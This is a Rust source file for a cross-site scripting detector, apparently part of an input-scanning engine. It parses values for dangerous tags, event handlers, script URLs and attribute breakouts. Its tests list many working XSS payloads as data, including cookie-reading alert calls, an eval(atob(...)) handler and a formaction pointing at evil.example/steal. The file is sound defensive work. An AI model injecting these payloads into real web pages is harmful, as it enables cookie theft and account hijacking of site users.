//! Cross-site scripting by HTML structure.
//!
//! A value is flagged when it holds markup a browser would execute: a `<script>`-like
//! element, any element with an `on*` event handler, a URL attribute or the value itself
//! starting with `javascript:`/`vbscript:`/`data:text/html`, CSS `expression(`, or a
//! quote that breaks out of an attribute into an event handler. Angle brackets in prose
//! (`a < b`, `<3`, `<b>bold</b>`) do not qualify.

/// Elements that are dangerous by themselves.
const DANGEROUS_TAGS: &[&[u8]] = &[
    b"script",
    b"iframe",
    b"frame",
    b"frameset",
    b"object",
    b"embed",
    b"applet",
    b"base",
    b"meta",
    b"link",
    b"import",
    b"xss",
    b"isindex",
    b"style",
    b"vmlframe",
];

/// Attributes whose value is a URL a browser may navigate to or load.
const URL_ATTRS: &[&[u8]] = &[
    b"href",
    b"src",
    b"action",
    b"formaction",
    b"data",
    b"xlink:href",
    b"background",
    b"poster",
    b"srcdoc",
    b"lowsrc",
    b"dynsrc",
    b"codebase",
];

/// What a value must hold for `xss` to flag it, as sets of bytes of which it needs all
/// of one set: a scheme's `:`, a tag's `<` (or the `0xBC` that becomes one when the high
/// bit is dropped), a quote or whitespace with an `=` after it to break out of an
/// attribute into a handler, or a handler assigned a call. The engine skips the detector
/// otherwise, so prose with apostrophes and no `=` costs nothing here.
pub(crate) const XSS_NEEDS: &[&[u8]] = &[b":", b"<", b"\"=", b"'=", b" =", b"=(", b"=`", b"\xbc"];

/// Event names (after `on`) of handlers that run script on their own: outside a tag an
/// `on...=` is judged by them, as `online=` or `onset=` in a query or formula is none.
const EVENT_ROOTS: &[&[u8]] = &[
    b"abort",
    b"animation",
    b"auxclick",
    b"before",
    b"begin",
    b"blur",
    b"can",
    b"change",
    b"click",
    b"close",
    b"contextmenu",
    b"copy",
    b"cut",
    b"dblclick",
    b"drag",
    b"drop",
    b"end",
    b"error",
    b"focus",
    b"hashchange",
    b"input",
    b"invalid",
    b"key",
    b"load",
    b"message",
    b"mouse",
    b"page",
    b"paste",
    b"play",
    b"pointer",
    b"popstate",
    b"progress",
    b"reset",
    b"resize",
    b"scroll",
    b"search",
    b"select",
    b"show",
    b"start",
    b"submit",
    b"toggle",
    b"touch",
    b"transition",
    b"unload",
    b"wheel",
];

/// Returns the span of the first executable fragment, if any.
pub(crate) fn xss(v: &[u8]) -> Option<(usize, usize)> {
    if let Some(end) = script_url(v) {
        return Some((0, end));
    }
    // Without a `<` (or `0xBC`) there is no tag, and without an `=` no attribute that runs
    // script: prose (a colon, apostrophes) costs one search.
    memchr::memchr3(b'<', b'=', 0xbc, v)?;
    if let Some(span) = high_bit_tag(v) {
        return Some(span);
    }
    if let Some(span) = handler_assignment(v) {
        return Some(span);
    }
    // Every attribute that runs script has a value, so a quote after the last `=` cannot
    // break out into one.
    let last_equals = memchr::memrchr(b'=', v);
    let mut from = 0;
    while let Some(p) = memchr::memchr3(b'<', b'"', b'\'', &v[from..]) {
        let i = from + p;
        from = i + 1;
        let end = if v[i] == b'<' {
            tag(v, i)
        } else if last_equals.is_some_and(|e| e > i) {
            attribute_breakout(v, i + 1)
        } else {
            None
        };
        if let Some(end) = end {
            return Some((i, end));
        }
    }
    None
}

/// `javascript:` and friends at the start of a value (browsers ignore leading
/// whitespace and control characters and tolerate them inside the scheme).
fn script_url(v: &[u8]) -> Option<usize> {
    // The letters read so far are a prefix of `scheme`, chosen by the first one: a value
    // whose first letters start no script scheme is settled there.
    let mut scheme: &[u8] = b"";
    let mut n = 0;
    for (i, &b) in v.iter().enumerate() {
        if b <= b' ' {
            continue;
        }
        if b == b':' {
            if n == 0 || n < scheme.len() {
                return None;
            }
            if scheme == b"data" {
                return data_is_markup(&v[i + 1..]).then_some(i + 1);
            }
            return Some(i + 1);
        }
        let b = b.to_ascii_lowercase();
        if n == 0 {
            scheme = match b {
                b'j' => b"javascript",
                b'v' => b"vbscript",
                b'l' => b"livescript",
                b'd' => b"data",
                _ => return None,
            };
        } else if scheme.get(n) != Some(&b) {
            return None;
        }
        n += 1;
    }
    None
}

/// Media types of `data:` URIs that a browser navigates to as a page running script.
/// SVG and XML are left out: icons and uploads travel as `data:image/svg+xml` and
/// `data:application/xml`, and their script shows as markup the tag scan judges.
const MARKUP_TYPES: &[&[u8]] = &[b"text/html", b"application/xhtml+xml"];

/// After `data:`: a page type, or no type at all (`data:,<x>`, left to sniffing) with a
/// tag in the payload; images and text pass.
fn data_is_markup(rest: &[u8]) -> bool {
    let rest = rest.trim_ascii_start();
    if MARKUP_TYPES
        .iter()
        .any(|t| rest.len() >= t.len() && rest[..t.len()].eq_ignore_ascii_case(t))
    {
        return true;
    }
    if !matches!(rest.first(), Some(b',' | b';')) {
        return false;
    }
    let Some(comma) = memchr::memchr(b',', rest) else {
        return false;
    };
    let payload = &rest[comma + 1..];
    memchr::memchr_iter(b'<', payload)
        .any(|lt| payload.get(lt + 1).is_some_and(u8::is_ascii_alphabetic))
}

/// A dangerous element written with `0xBC` and `0xBE` for its brackets: with the high bit
/// dropped (US-ASCII decoders that ignore it, old IE) `¼script¾...¼/script¾` is
/// `<script>...</script>`, in Latin-1, UTF-8 (`C2 BC`) or any other encoding whose bytes
/// end in `BC`/`BE`. Text in other scripts ends many letters in those bytes (Cyrillic `м`
/// and `о`, German `ü`, Greek `μ`), so it counts only as a pair: the opening tag and,
/// after it, the end tag of the same name, complete.
fn high_bit_tag(v: &[u8]) -> Option<(usize, usize)> {
    // An element not closed after its first opening is not closed after a later one, so
    // each name's end tag is searched for once and the scan stays linear.
    const _: () = assert!(DANGEROUS_TAGS.len() <= 32, "one bit per name");
    let mut unclosed = 0u32;
    for lt in memchr::memchr_iter(0xbc, v) {
        let name_len = v[lt + 1..]
            .iter()
            .take_while(|b| b.is_ascii_alphanumeric())
            .count();
        let end = lt + 1 + name_len;
        let name = &v[lt + 1..end];
        let Some(k) = DANGEROUS_TAGS
            .iter()
            .position(|t| t.eq_ignore_ascii_case(name))
        else {
            continue;
        };
        if unclosed & (1 << k) != 0 {
            continue;
        }
        let closed = memchr::memmem::find_iter(&v[end..], b"\xbc/").any(|c| {
            let rest = &v[end + c + 2..];
            rest.len() > name.len()
                && rest[..name.len()].eq_ignore_ascii_case(name)
                && match rest[name.len()..] {
                    [0xbe, ..] => true,
                    [high, 0xbe, ..] => high >= 0x80,
                    _ => false,
                }
        });
        if closed {
            return Some((lt, end));
        }
        unclosed |= 1 << k;
    }
    None
}

/// An event handler assigned outside any tag. After leading whitespace it is one
/// whatever its name: an unquoted attribute value ends at the space and the handler
/// starts (`<input value= onx=...>`). After another separator (`; onload=`, `/onfocus=`)
/// or at the start, a known event's handler assigned a call (`alert(1)`, ``eval`x` ``).
fn handler_assignment(v: &[u8]) -> Option<(usize, usize)> {
    let leading = v.iter().take_while(|b| b.is_ascii_whitespace()).count();
    for eq in memchr::memchr_iter(b'=', v) {
        let mut end = eq;
        while end > 0 && v[end - 1].is_ascii_whitespace() {
            end -= 1;
        }
        let mut start = end;
        while start > 0 && v[start - 1].is_ascii_alphabetic() {
            start -= 1;
        }
        let name = &v[start..end];
        if !is_event_handler(name) {
            continue;
        }
        if start > 0 && start == leading {
            return Some((start, eq + 1));
        }
        let separated = start == 0
            || matches!(v[start - 1], b';' | b'/' | b',' | b'(')
            || v[start - 1].is_ascii_whitespace();
        let event = &name[2..];
        if separated
            && EVENT_ROOTS
                .iter()
                .any(|r| event.len() >= r.len() && event[..r.len()].eq_ignore_ascii_case(r))
        {
            if let Some(call) = called(v, eq + 1) {
                return Some((start, call));
            }
        }
    }
    None
}

/// A handler value that calls something: a name or member chain followed by `(` or a
/// template literal, optionally quoted. Returns the end of the call's opening.
fn called(v: &[u8], mut i: usize) -> Option<usize> {
    while i < v.len() && v[i].is_ascii_whitespace() {
        i += 1;
    }
    if matches!(v.get(i), Some(b'"' | b'\'')) {
        i += 1;
    }
    let first = *v.get(i)?;
    if !(first.is_ascii_alphabetic() || first == b'_' || first == b'$') {
        return None;
    }
    while i < v.len() && (v[i].is_ascii_alphanumeric() || matches!(v[i], b'_' | b'$' | b'.')) {
        i += 1;
    }
    while i < v.len() && v[i].is_ascii_whitespace() {
        i += 1;
    }
    matches!(v.get(i), Some(b'(' | b'`')).then_some(i + 1)
}

/// Parses a tag at `v[lt] == b'<'`; returns the end of the dangerous part.
fn tag(v: &[u8], lt: usize) -> Option<usize> {
    let mut i = lt + 1;
    if v.get(i) == Some(&b'/') {
        i += 1;
    }
    let name_start = i;
    while i < v.len() && (v[i].is_ascii_alphanumeric() || v[i] == b':' || v[i] == b'-') {
        i += 1;
    }
    let name = &v[name_start..i];
    // An empty namespace prefix (`<:vmlframe`) names the element as well as `<v:vmlframe`.
    let unprefixed = name.strip_prefix(b":").unwrap_or(name);
    if unprefixed.is_empty() || !unprefixed[0].is_ascii_alphabetic() {
        return None;
    }
    // A namespace prefix (`<x:script xmlns:x="http://www.w3.org/1999/xhtml">`) still
    // makes the element executable.
    let local = name.rsplit(|&b| b == b':').next().unwrap_or(name);
    if DANGEROUS_TAGS.iter().any(|t| t.eq_ignore_ascii_case(local)) {
        return Some(i);
    }
    // After the name comes whitespace, `/` or the end of the tag, or it is no tag.
    if i < v.len() && !(v[i].is_ascii_whitespace() || v[i] == b'/' || v[i] == b'>') {
        return None;
    }
    attributes(v, i, TAG_ATTRIBUTES_MAX)
}

/// Attributes examined in a tag; bounds the work on a hostile `<a a a a ...`.
const TAG_ATTRIBUTES_MAX: usize = 64;

/// Attributes examined after a quote. A breakout puts its handler within the first few;
/// the bound keeps prose full of apostrophes linear instead of rescanned per quote.
const BREAKOUT_ATTRIBUTES_MAX: usize = 4;

/// Scans up to `max` attributes from `i` until `>`; returns the end of a dangerous one.
fn attributes(v: &[u8], mut i: usize, max: usize) -> Option<usize> {
    for _ in 0..max {
        while i < v.len() && (v[i].is_ascii_whitespace() || v[i] == b'/' || v[i] == 0) {
            i += 1;
        }
        if i >= v.len() || v[i] == b'>' || v[i] == b'<' {
            return None;
        }
        let name_start = i;
        while i < v.len()
            && !matches!(v[i], b'=' | b'>' | b'/' | b'<')
            && !v[i].is_ascii_whitespace()
        {
            i += 1;
        }
        let name = &v[name_start..i];
        while i < v.len() && v[i].is_ascii_whitespace() {
            i += 1;
        }
        let mut value: &[u8] = b"";
        let assigned = v.get(i) == Some(&b'=');
        if assigned {
            i += 1;
            while i < v.len() && v[i].is_ascii_whitespace() {
                i += 1;
            }
            match v.get(i) {
                Some(&q @ (b'"' | b'\'' | b'`')) => {
                    let end = memchr::memchr(q, &v[i + 1..]).map_or(v.len(), |p| i + 1 + p);
                    value = &v[i + 1..end];
                    i = (end + 1).min(v.len());
                }
                Some(_) => {
                    let s = i;
                    while i < v.len() && !v[i].is_ascii_whitespace() && v[i] != b'>' {
                        i += 1;
                    }
                    value = &v[s..i];
                }
                None => {}
            }
        }
        // A handler that is not assigned (`<img onerror>`, "shop online") runs nothing;
        // an assignment, even with its value cut off, is an attack.
        if assigned && is_event_handler(name) {
            return Some(i);
        }
        // `formaction` sends the form, with what the user typed, wherever it points,
        // `javascript:` or not.
        if assigned && name.eq_ignore_ascii_case(b"formaction") {
            return Some(i);
        }
        // A URL or style attribute is dangerous only through its value: test the value
        // first, as prose after a quote has words without values.
        if !value.is_empty()
            && script_url(value).is_some()
            && URL_ATTRS.iter().any(|a| a.eq_ignore_ascii_case(name))
        {
            return Some(i);
        }
        if !value.is_empty() && name.eq_ignore_ascii_case(b"style") && css_script(value) {
            return Some(i);
        }
        if name.is_empty() {
            i += 1;
        }
    }
    None
}

/// No DOM event is named with more letters than this (the longest are about forty).
const EVENT_NAME_MAX: usize = 50;

/// Words that begin with `on` and name no event (no browser runs an `online=` or `onset=`
/// attribute; the window's `online` event is handled by `ononline`). Any other `on`
/// name counts, because browsers keep adding events and attackers reach for the rare ones.
const ON_WORDS: &[&[u8]] = &[
    b"onboard",
    b"onboarding",
    b"oncoming",
    b"ongoing",
    b"onion",
    b"onions",
    b"online",
    b"onlooker",
    b"onlookers",
    b"onscreen",
    b"onset",
    b"onshore",
    b"onsite",
    b"onstage",
    b"onward",
    b"onwards",
];

fn is_event_handler(name: &[u8]) -> bool {
    name.len() > 4
        && name.len() - 2 <= EVENT_NAME_MAX
        && name[..2].eq_ignore_ascii_case(b"on")
        && name[2..].iter().all(u8::is_ascii_alphabetic)
        && !ON_WORDS.iter().any(|w| w.eq_ignore_ascii_case(name))
}

fn css_script(value: &[u8]) -> bool {
    // A style value of usual length is folded on the stack.
    let mut stack = [0u8; 256];
    let mut heap = Vec::new();
    let lower: &mut [u8] = if value.len() <= stack.len() {
        &mut stack
    } else {
        heap.resize(value.len(), 0);
        &mut heap
    };
    let mut n = 0;
    for &b in value {
        if !b.is_ascii_whitespace() {
            lower[n] = b.to_ascii_lowercase();
            n += 1;
        }
    }
    let lower = &lower[..n];
    memchr::memmem::find(lower, b"expression(").is_some()
        || memchr::memmem::find(lower, b"javascript:").is_some()
}

/// After a quote: attributes of which one is an event handler or a script URL. This is how
/// a value escapes an attribute it was placed in (browsers accept `"onclick=` without a
/// space); a quote followed by prose has no `on...=` attribute and does not qualify.
fn attribute_breakout(v: &[u8], i: usize) -> Option<usize> {
    attributes(v, i, BREAKOUT_ATTRIBUTES_MAX)
}

#[cfg(test)]
mod tests {
    use super::{xss, XSS_NEEDS};
    use crate::classes::{of, of_literal, Gate};

    #[test]
    fn every_flagged_value_holds_what_the_engine_gate_asks_for() {
        let gate = Gate::any_of(XSS_NEEDS.iter().map(|&n| of_literal(n)));
        let parts: [&[u8]; 15] = [
            b"<",
            b"svg",
            b">",
            b"\"",
            b"'",
            b"=",
            b" on",
            b"load",
            b"javascript",
            b":",
            b"a",
            b" ",
            b"(",
            b"/",
            b"\xbc",
        ];
        let mut value = Vec::new();
        let mut flagged = 0;
        for len in 1..=5u32 {
            for mut n in 0..parts.len().pow(len) {
                value.clear();
                for _ in 0..len {
                    value.extend_from_slice(parts[n % parts.len()]);
                    n /= parts.len();
                }
                if xss(&value).is_some() {
                    flagged += 1;
                    assert!(
                        gate.admits(of(&value)),
                        "{}",
                        String::from_utf8_lossy(&value)
                    );
                }
            }
        }
        assert!(
            flagged > 1000,
            "only {flagged} values flagged: the test lost its reach"
        );
    }

    #[test]
    fn flags_markup_that_runs() {
        for attack in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "javascript:alert(document.cookie)",
            " java\tscript:alert(1)",
            "<a href=\"javascript:alert(1)\">x</a>",
            "\" onmouseover=\"alert(1)",
            "\"user online\" ononline=alert(1)",
            "\" onOnline=x",
            "<body ononline=alert(1)>",
            "' onfocus='alert(1)' autofocus='",
            "<iframe src=//evil>",
            "<div style=\"width: expression(alert(1))\">",
            "<body onload=alert(1)>",
            "data:text/html;base64,PHNjcmlwdD4=",
            "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">",
            "x\"onzoom=alert(1)",
            "<svg onload = alert(1)>",
            "<STYLE>@import'http://evil/x.css';</STYLE>",
            "  onanything= ",
            "\tonxyz=1",
            "Test/1.0 (compatible; onload=alert(document.domain))",
            "q=test;onfocus=eval(atob('YWxlcnQoMSk='))",
            "x onmouseover=alert`1`",
            "onerror=top.alert(1)",
            "a/onpointerdown='confirm(1)'",
            "'formaction=",
            "\" formaction=//evil.example/steal x=\"",
            "<:vmlframe src=",
            "<v:vmlframe src=\"foo.com/sup.fml\"/>",
            " data: , <x>",
            "data:image/svg+xml,<svg onload=alert(1)>",
            "data:application/xhtml+xml;base64,PGh0bWw+",
            "data:;charset=utf-8,<b>x</b>",
        ] {
            assert!(xss(attack.as_bytes()).is_some(), "missed {attack:?}");
        }
    }

    #[test]
    fn flags_tags_whose_bracket_is_a_high_byte() {
        for attack in [
            &b"\xbcscript\xbealert(\xa2XSS\xa2)\xbc/script\xbe"[..],
            b"\xc2\xbcscript\xc2\xbealert(1)\xc2\xbc/SCRIPT\xc2\xbe",
            b"\xd0\xbcscript\xd0\xbe\xd0\xbc/script\xd0\xbe",
            b"\xc2\xbcIFRAME src=//evil\xc2\xbe\xc2\xbc/iframe\xc2\xbe",
        ] {
            assert!(xss(attack).is_some(), "missed {attack:?}");
        }
        for benign in [
            "sitzbez\u{c3}\u{bc}ge > fu\u{df}matten",
            "f\u{fc}r die \u{dc}bersicht, bitte",
            "\u{43c}\u{43e}\u{441}\u{43a}\u{432}\u{430}, 60 \u{43a}\u{43c}/\u{447} <= 90 \u{43a}\u{43c}/\u{447}",
            "\u{bc} cup sugar and \u{be} cup flour",
            "\u{bc}in to \u{be}in bolts",
            "5\u{3bc}s latency",
            "\u{9c}script \u{bc}alert(1);\u{bc}/script\u{9e}",
            "\u{bc}script\u{be}alert(1)\u{bc}/script",
            "\u{bc}script\u{be}alert(1)/script\u{be}",
            "\u{bc}script\u{be}alert(1)\u{bc}/scripts\u{be}",
            "\u{bc}script \u{bc}script \u{bc}iframe\u{be} \u{bc}/x\u{be}",
        ] {
            assert!(xss(benign.as_bytes()).is_none(), "flagged {benign:?}");
        }
    }

    #[test]
    fn passes_prose_and_harmless_markup() {
        for benign in [
            "a < b and c > d",
            "I <3 this",
            "<b>bold</b> and <i>italic</i>",
            "He said \"online\" twice",
            "<a href=\"https://example.com\">link</a>",
            "Use the \"onclick\" attribute carefully",
            "see: http://example.com",
            "x<y",
            "It's \"one\" of them",
            "I'd shop online tonight",
            "it's <img onerror> without a handler body",
            "level=info msg=started online=true",
            "select * from users where online=now()",
            "onset=date(2024)",
            "btn.onclick=handle()",
            "window.onload = init();",
            "Button onClick={save} />",
            "f(onSuccess={() => done()})",
            "data:,Hello%2C%20World",
            "data:image/png;base64,iVBORw0KGgo=",
            "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=",
            "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0h24'/></svg>",
            "data:application/xml;base64,PD94bWwgdmVyc2lvbj0iMS4wIj8+",
            "size 5 = 2 + 3",
            "Use `onload=init()` in the body tag",
            "  onthisisaverylongwordthathasmorethanfiftycharactersss= ",
            "\"user online\" online=true",
            "it's \"live\" onsite=yes onboarding=done",
            " online=true",
            "<div online=1>",
        ] {
            assert!(xss(benign.as_bytes()).is_none(), "flagged {benign:?}");
        }
    }
}
